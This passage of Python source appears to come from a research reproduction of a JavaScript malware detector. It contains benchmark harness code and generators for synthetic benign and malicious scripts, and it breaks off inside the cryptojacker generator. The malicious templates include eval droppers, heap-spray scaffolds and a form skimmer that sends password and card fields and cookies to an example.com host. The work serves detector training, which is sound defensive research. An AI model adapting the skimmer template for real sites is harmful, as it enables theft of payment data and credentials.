    for rep in range(params["reps"]):
        per_rep.append(_single_run(seed0 + rep, params, include_regular_ast))

    result = ComparisonResult(repetitions=params["reps"])
    for detector in per_rep[0]:
        result.reports[detector] = {}
        for setting in SETTINGS:
            result.reports[detector][setting] = _average_reports([r[detector][setting] for r in per_rep])
    _CACHE[key] = result
    return result


def scan_timing_comparison(
    detector: JSRevealer,
    sources: list[str],
    n_workers: int = 2,
    cache=None,
) -> dict[str, "object"]:
    """Table VIII-style scan of ``sources`` in sequential and parallel mode.

    Returns ``{"sequential": ScanReport, "parallel": ScanReport}`` so the
    runtime bench can report per-stage milliseconds for both engine modes
    (and cache effects, when a ``FeatureCache`` is supplied).
    """
    from repro.pipeline import BatchScanner

    return {
        "sequential": BatchScanner(detector, n_workers=1).scan(sources),
        "parallel": BatchScanner(detector, n_workers=n_workers, cache=cache).scan(sources),
    }


def format_timing_table(reports: dict[str, "object"], title: str = "") -> str:
    """Render per-stage scan timings (ms) for each engine mode."""
    from repro.pipeline import STAGE_KEYS

    lines = [title] if title else []
    header = f"{'Mode':14s}" + "".join(f"{key[:16]:>18s}" for key in STAGE_KEYS)
    header += f"{'wall_ms':>12s}{'ms/file':>10s}"
    lines.append(header)
    lines.append("-" * len(header))
    for mode, report in reports.items():
        row = f"{mode:14s}"
        for key in STAGE_KEYS:
            row += f"{report.stage_ms.get(key, 0.0):18.1f}"
        row += f"{report.elapsed_ms:12.1f}{report.elapsed_ms / max(report.n_files, 1):10.1f}"
        lines.append(row)
    return "\n".join(lines)


def serve_throughput_comparison(
    detector: JSRevealer,
    sources: list[str],
    concurrency: int = 8,
    repeats: int = 2,
    max_batch: int = 8,
    max_wait_ms: float = 25.0,
) -> dict[str, "object"]:
    """Micro-batching vs per-request dispatch vs in-process one-shot scans.

    Boots the daemon twice on an ephemeral port — once with
    ``max_batch=1`` (per-request dispatch) and once with ``max_batch``
    (micro-batching) — and drives both with the stdlib load generator at
    ``concurrency`` clients.  The ``oneshot`` entry times the same scripts
    through sequential in-process :meth:`JSRevealer.scan` calls, the cost
    every request pays without a resident daemon (process startup + model
    load excluded, so the comparison favors the baseline).

    Returns ``{"oneshot": LoadReport, "serve_unbatched": LoadReport,
    "serve_batched": LoadReport}``; per-script verdicts ride on each
    report's ``results`` so callers can assert equal correctness.
    """
    import time

    from repro.serve import BackgroundServer, LoadReport, LoadResult, ServeConfig
    from repro.serve.loadgen import run_load

    scripts = [(f"<bench:{i}>", source) for i, source in enumerate(sources)]

    oneshot_results = []
    oneshot_started = time.perf_counter()
    for _ in range(repeats):
        for name, source in scripts:
            started = time.perf_counter()
            result = detector.scan(source)
            oneshot_results.append(
                LoadResult(
                    name=name,
                    status=200,
                    latency_ms=1000.0 * (time.perf_counter() - started),
                    verdict=result.verdict,
                    label=result.label,
                    probability=result.probability,
                )
            )
    out: dict[str, object] = {
        "oneshot": LoadReport(
            requests=len(oneshot_results),
            errors=0,
            elapsed_s=time.perf_counter() - oneshot_started,
            concurrency=1,
            results=oneshot_results,
        )
    }

    for mode, batch in (("serve_unbatched", 1), ("serve_batched", max_batch)):
        config = ServeConfig(
            port=0,
            max_batch=batch,
            max_wait_ms=max_wait_ms,
            queue_limit=max(concurrency * 4, 64),
        )
        with BackgroundServer(detector, config) as server:
            out[mode] = run_load(
                server.host, server.port, scripts, concurrency=concurrency, repeats=repeats
            )
    return out


def cluster_scaling_comparison(
    model_dir: str,
    sources: list[str],
    shard_counts: tuple[int, ...] = (1, 2, 4),
    concurrency: int = 8,
    repeats: int = 2,
) -> dict[str, "object"]:
    """Router throughput as the shard fleet grows: 1 → 2 → 4 shards.

    Boots one :class:`~repro.serve.cluster.BackgroundCluster` per entry in
    ``shard_counts`` — each from the same saved ``model_dir``, each with a
    *fresh* shared cache directory so every fleet size starts cold and
    pays the same compute — and drives the router with the stdlib load
    generator at ``concurrency`` clients.  Shards are separate processes,
    so on a multi-core machine the fleet scales past the GIL; the router
    adds one loopback hop per request.

    Returns ``{"shards_1": LoadReport, "shards_2": ..., ...}``; verdicts
    ride on each report's ``results`` so callers can assert the fleet
    answers exactly what a single shard answers.
    """
    import tempfile

    from repro.serve import BackgroundCluster, ClusterConfig
    from repro.serve.loadgen import run_load

    scripts = [(f"<cluster:{i}>", source) for i, source in enumerate(sources)]
    out: dict[str, object] = {}
    for n_shards in shard_counts:
        with tempfile.TemporaryDirectory(prefix="repro-bench-cache-") as cache_dir:
            config = ClusterConfig(
                model_dir=model_dir, n_shards=n_shards, port=0, cache_dir=cache_dir
            )
            with BackgroundCluster(config) as cluster:
                out[f"shards_{n_shards}"] = run_load(
                    cluster.host,
                    cluster.port,
                    scripts,
                    concurrency=concurrency,
                    repeats=repeats,
                )
    return out


def format_load_table(reports: dict[str, "object"], title: str = "") -> str:
    """Render throughput and latency percentiles per serving mode."""
    lines = [title] if title else []
    header = (
        f"{'Mode':16s}{'req':>6s}{'err':>5s}{'req/s':>10s}"
        f"{'p50_ms':>10s}{'p95_ms':>10s}{'p99_ms':>10s}"
    )
    lines.append(header)
    lines.append("-" * len(header))
    for mode, report in reports.items():
        lines.append(
            f"{mode:16s}{report.requests:>6d}{report.errors:>5d}"
            f"{report.throughput_rps:>10.1f}{report.latency_ms(0.50):>10.1f}"
            f"{report.latency_ms(0.95):>10.1f}{report.latency_ms(0.99):>10.1f}"
        )
    return "\n".join(lines)


def format_metric_table(
    result: ComparisonResult,
    metric: str,
    detectors=DETECTOR_ORDER,
    title: str = "",
) -> str:
    """Render one paper-style table (rows = detectors, cols = settings)."""
    lines = []
    if title:
        lines.append(title)
    header = f"{'Detector':14s}" + "".join(f"{s[:12]:>14s}" for s in SETTINGS)
    lines.append(header)
    lines.append("-" * len(header))
    for detector in detectors:
        if detector not in result.reports:
            continue
        row = f"{detector:14s}"
        for setting in SETTINGS:
            row += f"{result.metric(detector, setting, metric):14.1f}"
        lines.append(row)
    return "\n".join(lines)
