"""Benchmark harness shared by the table/figure reproduction benches."""

from .harness import (
    DETECTOR_ORDER,
    SETTINGS,
    ComparisonResult,
    bench_params,
    cluster_scaling_comparison,
    default_jsrevealer_config,
    format_load_table,
    format_metric_table,
    format_timing_table,
    run_comparison,
    scan_timing_comparison,
    serve_throughput_comparison,
)

__all__ = [
    "DETECTOR_ORDER",
    "SETTINGS",
    "ComparisonResult",
    "bench_params",
    "cluster_scaling_comparison",
    "default_jsrevealer_config",
    "format_load_table",
    "format_metric_table",
    "format_timing_table",
    "run_comparison",
    "scan_timing_comparison",
    "serve_throughput_comparison",
]
