"""Small composable builders for synthetic JavaScript program fragments.

The benign/malicious generators assemble programs from these pieces.  All
randomness flows through an explicit ``numpy`` generator so corpora are
fully reproducible from a seed.
"""

from __future__ import annotations

import numpy as np

_WORDS = (
    "data config item value index count result list node elem widget panel "
    "button form field input output buffer text label title name key entry "
    "row col cell grid page view model state event handler callback option "
    "setting param arg total sum price amount user account session token "
    "cache store queue stack map group batch chunk part segment offset"
).split()

_VERBS = (
    "get set update render build make create init load save fetch send "
    "parse format compute apply handle process check validate filter sort "
    "merge split append remove insert find select toggle show hide reset"
).split()

_DOM_TARGETS = (
    "container sidebar header footer content main nav menu modal overlay "
    "tooltip dropdown carousel slider gallery banner toolbar statusbar"
).split()


class IdentifierPool:
    """Hands out plausible camel-case identifiers without collisions."""

    def __init__(self, rng: np.random.Generator):
        self.rng = rng
        self._used: set[str] = set()

    def _candidate(self) -> str:
        verb = self.rng.choice(_VERBS)
        noun = str(self.rng.choice(_WORDS)).capitalize()
        if self.rng.random() < 0.3:
            return f"{verb}{noun}{int(self.rng.integers(1, 9))}"
        return f"{verb}{noun}"

    def fresh_function(self) -> str:
        while True:
            name = self._candidate()
            if name not in self._used:
                self._used.add(name)
                return name

    def fresh_var(self) -> str:
        while True:
            name = str(self.rng.choice(_WORDS))
            if self.rng.random() < 0.5:
                name += str(self.rng.choice(_WORDS)).capitalize()
            if self.rng.random() < 0.2:
                name += str(int(self.rng.integers(1, 99)))
            if name not in self._used:
                self._used.add(name)
                return name

    def dom_id(self) -> str:
        return str(self.rng.choice(_DOM_TARGETS)) + str(int(self.rng.integers(1, 50)))


def random_string(rng: np.random.Generator, words: int = 2) -> str:
    return " ".join(str(rng.choice(_WORDS)) for _ in range(words))


def random_int(rng: np.random.Generator, low: int = 0, high: int = 1000) -> int:
    return int(rng.integers(low, high))


def random_hex_payload(rng: np.random.Generator, length: int = 24) -> str:
    """Shellcode-ish hex blob used by exploit-style generators."""
    return "".join(f"%u{rng.integers(0, 0xFFFF):04x}" for _ in range(length // 4))


def random_b64ish(rng: np.random.Generator, length: int = 32) -> str:
    alphabet = list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    return "".join(str(rng.choice(alphabet)) for _ in range(length)) + "=="


def indent(block: str, level: int = 1) -> str:
    pad = "  " * level
    return "\n".join(pad + line if line else line for line in block.splitlines())
