"""Synthetic *benign* JavaScript generators.

Six families modeled on the populations of the paper's benign corpora (the
150k JavaScript Dataset and Alexa Top-10k crawls): UI widget setup, config
/option plumbing, DOM utilities, AJAX data loading, form validation, and
animation helpers.  Per the paper's RQ3 finding, benign code is dominated
by *functionality implementation* — function scaffolding, option objects,
event wiring — which these templates deliberately emphasize.

Every generator takes a seeded ``numpy`` RNG and returns JavaScript source
that parses with :mod:`repro.jsparser`.
"""

from __future__ import annotations

import numpy as np

from .builders import IdentifierPool, random_int, random_string


def _widget_setup(rng: np.random.Generator, ids: IdentifierPool) -> str:
    fn = ids.fresh_function()
    opts, controls, width, height = (ids.fresh_var() for _ in range(4))
    target = ids.dom_id()
    autoplay = "true" if rng.random() < 0.5 else "false"
    return f"""
function {fn}({opts}) {{
  var {controls} = {opts}.controls;
  var {width} = {opts}.width || {random_int(rng, 100, 900)};
  var {height} = {opts}.height || {random_int(rng, 60, 600)};
  if ({controls}) {{
    {controls}.autoplay = {autoplay};
    {controls}.volume = {random_int(rng, 1, 10)} / 10;
  }}
  var element = document.getElementById("{target}");
  if (element) {{
    element.style.width = {width} + "px";
    element.style.height = {height} + "px";
  }}
  return {{ width: {width}, height: {height}, controls: {controls} }};
}}
{fn}({{ controls: {{ autoplay: false }}, width: {random_int(rng, 200, 800)} }});
"""


def _config_module(rng: np.random.Generator, ids: IdentifierPool) -> str:
    cfg, defaults, merge = ids.fresh_var(), ids.fresh_var(), ids.fresh_function()
    keys = [ids.fresh_var() for _ in range(3)]
    values = [random_int(rng, 1, 100) for _ in range(3)]
    return f"""
var {defaults} = {{
  {keys[0]}: {values[0]},
  {keys[1]}: {values[1]},
  {keys[2]}: "{random_string(rng)}",
  enabled: true
}};
function {merge}(base, extra) {{
  var out = {{}};
  for (var key in base) {{
    out[key] = base[key];
  }}
  for (var key2 in extra) {{
    out[key2] = extra[key2];
  }}
  return out;
}}
var {cfg} = {merge}({defaults}, {{ {keys[1]}: {random_int(rng, 100, 999)} }});
console.log({cfg}.{keys[0]}, {cfg}.enabled);
"""


def _dom_utility(rng: np.random.Generator, ids: IdentifierPool) -> str:
    fn, items, out, cls = ids.fresh_function(), ids.fresh_var(), ids.fresh_var(), random_string(rng, 1)
    return f"""
function {fn}(selector) {{
  var {items} = document.querySelectorAll(selector);
  var {out} = [];
  for (var i = 0; i < {items}.length; i++) {{
    var node = {items}[i];
    if (node.className.indexOf("{cls}") === -1) {{
      node.className = node.className + " {cls}";
      {out}.push(node.id);
    }}
  }}
  return {out};
}}
var updated = {fn}(".{ids.dom_id()}");
if (updated.length > {random_int(rng, 0, 5)}) {{
  console.log("updated", updated.length, "nodes");
}}
"""


def _ajax_loader(rng: np.random.Generator, ids: IdentifierPool) -> str:
    fn, url, handler = ids.fresh_function(), ids.fresh_var(), ids.fresh_function()
    endpoint = f"/api/{random_string(rng, 1)}/{random_int(rng, 1, 99)}"
    return f"""
function {handler}(response) {{
  var parsed = JSON.parse(response);
  var items = parsed.items || [];
  var total = 0;
  for (var i = 0; i < items.length; i++) {{
    total = total + (items[i].count || 0);
  }}
  return total;
}}
function {fn}(callback) {{
  var {url} = "{endpoint}";
  var request = new XMLHttpRequest();
  request.open("GET", {url}, true);
  request.onreadystatechange = function() {{
    if (request.readyState === 4 && request.status === 200) {{
      callback({handler}(request.responseText));
    }}
  }};
  request.send(null);
}}
{fn}(function(total) {{ console.log("total", total); }});
"""


def _form_validation(rng: np.random.Generator, ids: IdentifierPool) -> str:
    fn, field, errors = ids.fresh_function(), ids.fresh_var(), ids.fresh_var()
    min_len = random_int(rng, 3, 8)
    return f"""
function {fn}(form) {{
  var {errors} = [];
  var {field} = form.username;
  if (!{field} || {field}.length < {min_len}) {{
    {errors}.push("username too short");
  }}
  var email = form.email;
  if (!email || email.indexOf("@") === -1) {{
    {errors}.push("invalid email");
  }}
  var age = parseInt(form.age, 10);
  if (isNaN(age) || age < {random_int(rng, 13, 21)} || age > 120) {{
    {errors}.push("invalid age");
  }}
  return {{ valid: {errors}.length === 0, errors: {errors} }};
}}
var check = {fn}({{ username: "{random_string(rng, 1)}", email: "a@b.c", age: "{random_int(rng, 18, 80)}" }});
if (!check.valid) {{
  console.warn(check.errors.join(", "));
}}
"""


def _animation_helper(rng: np.random.Generator, ids: IdentifierPool) -> str:
    fn, step, duration = ids.fresh_function(), ids.fresh_var(), random_int(rng, 200, 2000)
    return f"""
function {fn}(element, target) {{
  var start = element.offsetLeft;
  var distance = target - start;
  var {step} = 0;
  var frames = {random_int(rng, 10, 60)};
  function tick() {{
    {step} = {step} + 1;
    var progress = {step} / frames;
    if (progress > 1) {{
      progress = 1;
    }}
    element.style.left = (start + distance * progress) + "px";
    if (progress < 1) {{
      setTimeout(tick, {duration} / frames);
    }}
  }}
  tick();
}}
var box = document.getElementById("{ids.dom_id()}");
if (box) {{
  {fn}(box, {random_int(rng, 50, 500)});
}}
"""


def _analytics_snippet(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Legitimate analytics: reads cookies, escapes data, pings a beacon —
    the same API surface skimmers use, on behalf of the site owner."""
    fn, visitor, beacon = ids.fresh_function(), ids.fresh_var(), ids.fresh_var()
    cookie_name = random_string(rng, 1)
    return f"""
function {fn}() {{
  var {visitor} = null;
  var parts = document.cookie.split("; ");
  for (var i = 0; i < parts.length; i++) {{
    if (parts[i].indexOf("{cookie_name}=") === 0) {{
      {visitor} = parts[i].substring({len(cookie_name) + 1});
    }}
  }}
  if (!{visitor}) {{
    {visitor} = "v" + Math.floor(Math.random() * {random_int(rng, 10000, 99999)});
    document.cookie = "{cookie_name}=" + {visitor} + "; path=/";
  }}
  var {beacon} = new Image();
  {beacon}.src = "/stats/hit?uid=" + escape({visitor}) + "&page=" + escape(location.pathname);
  return {visitor};
}}
{fn}();
"""


def _lazy_loader(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Legitimate deferred script loading: builds and writes a script tag —
    the same document.write pattern staged malicious loaders use."""
    fn, src_var = ids.fresh_function(), ids.fresh_var()
    vendor = random_string(rng, 1)
    return f"""
function {fn}(path, async) {{
  var {src_var} = "/vendor/{vendor}/" + path + ".js";
  if (document.readyState === "loading") {{
    document.write("<script src='" + {src_var} + "'><" + "/script>");
  }} else {{
    var tag = document.createElement("script");
    tag.src = {src_var};
    tag.async = async === true;
    document.head.appendChild(tag);
  }}
}}
{fn}("{random_string(rng, 1)}", true);
{fn}("{random_string(rng, 1)}", false);
"""


def _codec_polyfill(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Legitimate base64-ish codec polyfill: charCode arithmetic in loops —
    a structural twin of malicious payload decoders."""
    enc, dec, table = ids.fresh_function(), ids.fresh_function(), ids.fresh_var()
    return f"""
var {table} = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
function {enc}(input) {{
  var output = "";
  for (var i = 0; i < input.length; i = i + 3) {{
    var a = input.charCodeAt(i);
    var b = input.charCodeAt(i + 1) || 0;
    var c = input.charCodeAt(i + 2) || 0;
    output = output + {table}.charAt(a >> 2);
    output = output + {table}.charAt(((a & 3) << 4) | (b >> 4));
    output = output + {table}.charAt(((b & 15) << 2) | (c >> 6));
    output = output + {table}.charAt(c & 63);
  }}
  return output;
}}
function {dec}(input) {{
  var output = "";
  for (var j = 0; j < input.length; j++) {{
    var code = {table}.indexOf(input.charAt(j));
    if (code >= 0) {{
      output = output + String.fromCharCode(code + {random_int(rng, 1, 5)});
    }}
  }}
  return output;
}}
var roundtrip = {dec}({enc}("{random_string(rng, 2)}"));
console.log(roundtrip.length);
"""


def _hash_utility(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Legitimate string-hash helper (cache keys, ETags): integer mixing in
    a tight loop — a structural twin of cryptojacker inner loops."""
    fn, seed_var = ids.fresh_function(), random_int(rng, 1, 5381)
    return f"""
function {fn}(text) {{
  var hash = {seed_var};
  for (var i = 0; i < text.length; i++) {{
    hash = ((hash << 5) + hash + text.charCodeAt(i)) & 0x7fffffff;
    hash = hash ^ (hash >> {random_int(rng, 3, 11)});
  }}
  return hash;
}}
var cacheKey = {fn}("{random_string(rng, 2)}") + "-" + {fn}(location.pathname);
sessionStorage.setItem("cache-" + cacheKey, String(Date.now ? Date.now() : 0));
"""


def _template_engine(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Legitimate micro-templating: assembles HTML strings piecewise and
    writes them into the document — like staged loaders, but benign."""
    fn, parts_var = ids.fresh_function(), ids.fresh_var()
    tag = str(rng.choice(["div", "span", "li", "td", "p"]))
    return f"""
function {fn}(items) {{
  var {parts_var} = [];
  for (var i = 0; i < items.length; i++) {{
    var row = "<{tag} class='item'>";
    row = row + items[i].name;
    row = row + "</{tag}>";
    {parts_var}.push(row);
  }}
  return {parts_var}.join("");
}}
var markup = {fn}([{{ name: "{random_string(rng, 1)}" }}, {{ name: "{random_string(rng, 1)}" }}]);
document.getElementById("{ids.dom_id()}").innerHTML = markup;
"""


def _querystring_parser(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Legitimate query-string parsing: the classic ``unescape`` loop every
    pre-URLSearchParams site shipped — same host API heap sprays use."""
    fn, params_var = ids.fresh_function(), ids.fresh_var()
    default_key = random_string(rng, 1)
    return f"""
function {fn}(query) {{
  var {params_var} = {{}};
  if (query.charAt(0) === "?") {{
    query = query.substring(1);
  }}
  var pairs = query.split("&");
  for (var i = 0; i < pairs.length; i++) {{
    var kv = pairs[i].split("=");
    if (kv.length === 2) {{
      {params_var}[unescape(kv[0])] = unescape(kv[1].replace(/\\+/g, " "));
    }}
  }}
  return {params_var};
}}
var parsed = {fn}(location.search || "?{default_key}={random_int(rng, 1, 99)}");
console.log(parsed["{default_key}"]);
"""


def _live_feed(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Legitimate live updates over WebSocket: the same socket+JSON+loop
    surface cryptojackers use, serving price tickers and chat widgets."""
    conn, handler, retry = ids.fresh_var(), ids.fresh_function(), ids.fresh_var()
    channel = random_string(rng, 1)
    return f"""
var {retry} = 0;
function {handler}(update) {{
  var rows = update.items || [];
  var html = "";
  for (var i = 0; i < rows.length; i++) {{
    html = html + "<li>" + rows[i].label + ": " + rows[i].value + "</li>";
  }}
  document.getElementById("{ids.dom_id()}").innerHTML = html;
}}
var {conn} = new WebSocket("wss://feed.example.com/{channel}");
{conn}.onmessage = function(msg) {{
  {handler}(JSON.parse(msg.data));
}};
{conn}.onclose = function() {{
  {retry} = {retry} + 1;
  if ({retry} < {random_int(rng, 3, 9)}) {{
    setTimeout(function() {{ {conn} = new WebSocket("wss://feed.example.com/{channel}"); }}, 1000 * {retry});
  }}
}};
"""


def _json_fallback(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Legitimate JSON parsing with the classic eval fallback (json2.js
    era) — benign code *does* eval, which is why eval presence alone
    cannot separate the classes."""
    fn, cache = ids.fresh_function(), ids.fresh_var()
    key = random_string(rng, 1)
    return f"""
var {cache} = {{}};
function {fn}(text) {{
  if ({cache}[text]) {{
    return {cache}[text];
  }}
  var value = null;
  if (typeof JSON !== "undefined" && JSON.parse) {{
    value = JSON.parse(text);
  }} else if (/^[\\],:{{}}\\s0-9.\\-+Eaeflnr-u "]+$/.test(text)) {{
    value = eval("(" + text + ")");
  }}
  {cache}[text] = value;
  return value;
}}
var settings = {fn}('{{"{key}": {random_int(rng, 1, 99)}}}');
if (settings && settings.{key} > 0) {{
  console.log(settings.{key});
}}
"""


def _module_bundle(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Bundler output (webpack-style): an IIFE over a module table with a
    dispatching require function — the benign origin of the IIFE/dispatch
    structures obfuscators also emit."""
    fn_a, fn_b = ids.fresh_function(), ids.fresh_function()
    pad_width = random_int(rng, 2, 8)
    return f"""
(function(modules) {{
  var cache = {{}};
  function load(id) {{
    if (cache[id]) {{
      return cache[id].exports;
    }}
    var module = {{ exports: {{}} }};
    cache[id] = module;
    modules[id](module, module.exports, load);
    return module.exports;
  }}
  load(0);
}})([
  function(module, exports, load) {{
    var util = load(1);
    exports.{fn_a} = function(value) {{
      return util.{fn_b}(String(value), {pad_width});
    }};
    exports.{fn_a}("{random_string(rng, 1)}");
  }},
  function(module, exports, load) {{
    exports.{fn_b} = function(text, width) {{
      while (text.length < width) {{
        text = " " + text;
      }}
      return text;
    }};
  }}
]);
"""


def _i18n_table(rng: np.random.Generator, ids: IdentifierPool) -> str:
    """Localization string table with an index-based lookup — the benign
    twin of the obfuscators' string-array + decoder pattern."""
    table, lookup = ids.fresh_var(), ids.fresh_function()
    messages = ", ".join(f'"{random_string(rng, 2)}"' for _ in range(random_int(rng, 6, 14)))
    return f"""
var {table} = [{messages}];
function {lookup}(index, fallback) {{
  if (index >= 0 && index < {table}.length) {{
    return {table}[index];
  }}
  return fallback || {table}[0];
}}
var heading = {lookup}({random_int(rng, 0, 5)});
var tooltip = {lookup}({random_int(rng, 0, 5)}, "{random_string(rng, 1)}");
document.getElementById("{ids.dom_id()}").title = tooltip;
document.getElementById("{ids.dom_id()}").textContent = heading;
"""


#: family name -> generator
BENIGN_FAMILIES = {
    "widget": _widget_setup,
    "config": _config_module,
    "dom": _dom_utility,
    "ajax": _ajax_loader,
    "validation": _form_validation,
    "animation": _animation_helper,
    "analytics": _analytics_snippet,
    "lazyload": _lazy_loader,
    "codec": _codec_polyfill,
    "hashutil": _hash_utility,
    "template": _template_engine,
    "querystring": _querystring_parser,
    "livefeed": _live_feed,
    "jsonparse": _json_fallback,
    "bundle": _module_bundle,
    "i18n": _i18n_table,
}


def generate_benign(rng: np.random.Generator, family: str | None = None) -> str:
    """One benign script; optionally force a family, else sample uniformly.

    Scripts often concatenate 1–3 fragments, as real pages bundle multiple
    concerns into one file.
    """
    names = list(BENIGN_FAMILIES)
    if family is not None:
        if family not in BENIGN_FAMILIES:
            raise ValueError(f"unknown benign family {family!r}")
        chosen = [family]
    else:
        count = int(rng.integers(1, 4))
        chosen = [str(rng.choice(names)) for _ in range(count)]
    ids = IdentifierPool(rng)
    return "\n".join(BENIGN_FAMILIES[name](rng, ids) for name in chosen)
