"""Synthetic *malicious* JavaScript generators.

Six families modeled on the attack classes in the paper's Sec. II-A and
its malware sources (HynekPetrak collection, exploit kits, VirusTotal):
eval-chain droppers, heap-spray exploit scaffolds, web skimmers,
cryptojackers, forced redirectors, and staged obfuscated loaders.  Per the
paper's RQ3 finding, malicious code is dominated by *data manipulation* —
character/integer arithmetic, string assembly, cookie/form exfiltration —
which these templates deliberately emphasize.

These generators produce structurally faithful but **inert** samples: URLs
are RFC 2606 reserved example domains, payloads are random bytes, and no
generated script does anything harmful when read or parsed.  They exist so
the detection pipeline sees realistic malicious *shape*, exactly as
DESIGN.md's dataset substitution describes.
"""

from __future__ import annotations

import numpy as np

from .builders import IdentifierPool, random_b64ish, random_hex_payload, random_int, random_string

#: Family-characteristic variable names.  Real exploit kits and skimmers
#: are copy-pasted across campaigns, so samples of one family share
#: recognizable identifiers (``shellcode``, ``sprayArr``, …) — the very
#: (context, text) features ZOZZLE-style detectors learn, and the ones
#: renaming obfuscation destroys.
_FAMILY_NAMES = {
    "dropper": ["payload", "encoded", "decoded", "xorkey", "chunk", "blob", "stage", "dat"],
    "heapspray": ["shellcode", "spray", "sprayArr", "sled", "nops", "slide", "block", "heap"],
    "skimmer": ["cc", "cardData", "stolen", "formData", "exfil", "grabber", "dump", "track"],
    "cryptojacker": ["miner", "hashrate", "nonce", "job", "pool", "worker", "difficulty", "shares"],
    "redirector": ["redir", "dest", "landing", "gate", "tds", "campaign", "clickid", "ref"],
    "loader": ["inject", "stage2", "dropUrl", "frame", "loader", "beacon", "implant", "cradle"],
}


class FamilyNamer:
    """Hands out family-themed identifiers with light per-sample mutation."""

    def __init__(self, rng: np.random.Generator, family: str):
        self.rng = rng
        self.pool = list(_FAMILY_NAMES[family])
        self._used: set[str] = set()

    def fresh_var(self) -> str:
        base = str(self.rng.choice(self.pool))
        name = base
        while name in self._used:
            name = base + str(int(self.rng.integers(1, 99)))
        self._used.add(name)
        return name

    fresh_function = fresh_var


def _wrap(rng: np.random.Generator, ids: IdentifierPool, body: str) -> str:
    """Random structural shell: top-level, IIFE, or named-function + call."""
    style = rng.random()
    if style < 0.4:
        return body
    if style < 0.7:
        return f"(function() {{\n{body}\n}})();"
    fn = ids.fresh_function()
    return f"function {fn}() {{\n{body}\n}}\n{fn}();"


def _eval_dropper(rng: np.random.Generator, ids: IdentifierPool) -> str:
    parts = [ids.fresh_var() for _ in range(4)]
    payload_chunks = [random_b64ish(rng, 12) for _ in range(4)]
    decoder, key = ids.fresh_var(), random_int(rng, 3, 60)
    if rng.random() < 0.5:
        decode_loop = f"""
var {decoder} = "";
for (var i = 0; i < {parts[3]}.length; i++) {{
  var code = {parts[3]}.charCodeAt(i) ^ {key};
  {decoder} = {decoder} + String.fromCharCode(code);
}}"""
    else:
        decode_loop = f"""
var pieces = {parts[3]}.split("");
var {decoder} = "";
var at = 0;
while (at < pieces.length) {{
  {decoder} = {decoder} + String.fromCharCode(pieces[at].charCodeAt(0) - {key % 9 + 1});
  at = at + 1;
}}"""
    sink = "eval" if rng.random() < 0.6 else "window.setTimeout"
    sink_call = f"eval({decoder});" if sink == "eval" else f"window.setTimeout({decoder}, {random_int(rng, 10, 200)});"
    body = f"""
var {parts[0]} = "{payload_chunks[0]}";
var {parts[1]} = "{payload_chunks[1]}";
var {parts[2]} = "{payload_chunks[2]}" + "{payload_chunks[3]}";
var {parts[3]} = {parts[0]} + {parts[1]} + {parts[2]};
{decode_loop}
{sink_call}
"""
    return _wrap(rng, ids, body)


def _heap_spray(rng: np.random.Generator, ids: IdentifierPool) -> str:
    spray, slide, block, count = (ids.fresh_var() for _ in range(4))
    nop = "%u9090%u9090"
    if rng.random() < 0.5:
        grow = f"""
while ({slide}.length < {random_int(rng, 30000, 90000)}) {{
  {slide} = {slide} + {slide};
}}"""
    else:
        grow = f"""
for (var g = 0; g < {random_int(rng, 12, 20)}; g++) {{
  {slide} = {slide} + {slide};
}}"""
    fill = (
        f"{spray}[i] = {slide} + {block};"
        if rng.random() < 0.6
        else f"{spray}.push({slide}.substring(i) + {block});"
    )
    body = f"""
var {slide} = unescape("{nop}");
var {block} = unescape("{random_hex_payload(rng, 32)}");
{grow}
{slide} = {slide}.substring(0, {random_int(rng, 20000, 60000)});
var {spray} = new Array();
for (var i = 0; i < {random_int(rng, 100, 500)}; i++) {{
  {fill}
}}
var {count} = {spray}.length;
if ({count} > 0) {{
  document.write("<span>" + {count} + "</span>");
}}
"""
    return _wrap(rng, ids, body)


def _web_skimmer(rng: np.random.Generator, ids: IdentifierPool) -> str:
    grab, send, buffer = ids.fresh_function(), ids.fresh_function(), ids.fresh_var()
    exfil = f"https://{random_string(rng, 1)}.example.com/c"
    # Variant axes: field-selection predicate, exfil channel, trigger.
    predicate_roll = rng.random()
    if predicate_roll < 0.4:
        predicate = 'field.type === "password" || field.name.indexOf("card") !== -1'
    elif predicate_roll < 0.7:
        predicate = f'field.name.indexOf("{rng.choice(["cvv", "ccnum", "expiry", "pan"])}") !== -1 || field.type === "password"'
    else:
        predicate = 'field.value.length > 10 && field.value.replace(/[0-9 ]/g, "") === ""'
    if rng.random() < 0.6:
        channel = f"""var img = new Image();
  img.src = "{exfil}?d=" + escape({buffer}.join("&")) + "&c=" + escape(document.cookie);"""
    else:
        channel = f"""var req = new XMLHttpRequest();
  req.open("POST", "{exfil}", true);
  req.send({buffer}.join("&") + "|" + document.cookie);"""
    if rng.random() < 0.6:
        trigger = f"""document.addEventListener("submit", function(e) {{ {grab}(); {send}(); }}, true);
setInterval({send}, {random_int(rng, 2000, 9000)});"""
    else:
        trigger = f"""document.addEventListener("change", function(e) {{ {grab}(); }}, true);
document.addEventListener("beforeunload", function(e) {{ {send}(); }}, false);"""
    body = f"""
var {buffer} = [];
function {grab}() {{
  var inputs = document.getElementsByTagName("input");
  for (var i = 0; i < inputs.length; i++) {{
    var field = inputs[i];
    if ({predicate}) {{
      {buffer}.push(field.name + "=" + field.value);
    }}
  }}
}}
function {send}() {{
  if ({buffer}.length === 0) {{
    return;
  }}
  {channel}
  {buffer} = [];
}}
{trigger}
"""
    return _wrap(rng, ids, body)


def _cryptojacker(rng: np.random.Generator, ids: IdentifierPool) -> str:
    worker, nonce, hash_fn, threads = (ids.fresh_var() for _ in range(4))
    pool = f"wss://{random_string(rng, 1)}.example.net:{random_int(rng, 3000, 9000)}"
    # Variant axes: hash mixing recipe, loop shape, transport.
    if rng.random() < 0.5:
        mix = f"h = (h * {random_int(rng, 17, 63)} + input.charCodeAt(i)) & 0xffffff;\n    h = h ^ (h >> {random_int(rng, 3, 11)});"
    else:
